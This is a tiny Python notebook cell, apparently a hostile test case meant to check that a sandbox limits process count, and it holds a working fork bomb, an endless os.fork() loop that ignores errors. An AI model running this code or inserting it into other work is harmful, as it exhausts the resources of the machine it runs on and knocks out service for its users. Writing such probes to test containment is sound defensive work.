# tries: to fork without end, every child forking on
# holds: the number of processes is limited; the rest of the notebook earns its marks
# kind: hostile

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
